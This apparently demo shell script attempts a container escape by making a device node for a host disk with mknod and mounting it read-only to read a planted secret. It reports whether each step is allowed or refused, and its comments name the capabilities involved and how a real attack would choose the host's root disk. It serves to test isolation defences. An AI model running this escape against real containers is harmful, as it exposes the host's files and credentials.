# Attack: make the device node of a host disk and mount it (read-only).
# A block device is the whole filesystem of the host, below every permission the
# host's files have: whoever mounts it reads (and could write) everything on it.
# The demo attached a small loop disk on the host with a secret on it; its numbers
# are in $MC_DISK (MAJOR MINOR). A real attack would pick the host's root disk
# from /proc/partitions the same way.
node=/dev/mc-host-disk
echo "target: host block device $MC_DISK (b $(echo "$MC_DISK" | tr ' ' :))"
# 1. The node: CAP_MKNOD lets root make it; the kernel refuses it in a user namespace.
if mknod "$node" b $MC_DISK; then
    echo "mknod $node b $MC_DISK: ok"
else
    echo "mknod $node b $MC_DISK: refused"
fi
# 2. Mount it read-only: needs CAP_SYS_ADMIN, a seccomp filter that lets mount(2)
#    through, a device layer that lets the node be opened, and no user namespace
#    (a disk filesystem such as ext2 is never mountable from one).
mkdir -p /mnt/host-disk
if mount -o ro -t ext2 "$node" /mnt/host-disk; then
    echo "mount -o ro -t ext2 $node /mnt/host-disk: ok"
    echo "read /mnt/host-disk/secret: PROOF $(cat /mnt/host-disk/secret 2>&1)"
    umount /mnt/host-disk
else
    echo "mount -o ro -t ext2 $node /mnt/host-disk: refused"
fi
